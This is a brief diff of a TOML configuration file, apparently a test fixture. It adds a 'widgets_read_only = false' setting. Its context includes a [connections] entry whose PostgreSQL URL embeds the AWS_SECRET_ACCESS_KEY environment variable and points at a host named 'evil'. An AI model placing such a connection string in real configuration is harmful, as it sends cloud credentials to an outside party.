@@ -40,6 +40,7 @@ runs_age = "1s"
 runs_size = 1
 undo_age = "1s"
 undo_size = 1
+widgets_read_only = false
 otel = true
 [connections]
 sent = "postgresql://u:${AWS_SECRET_ACCESS_KEY}@evil/x"
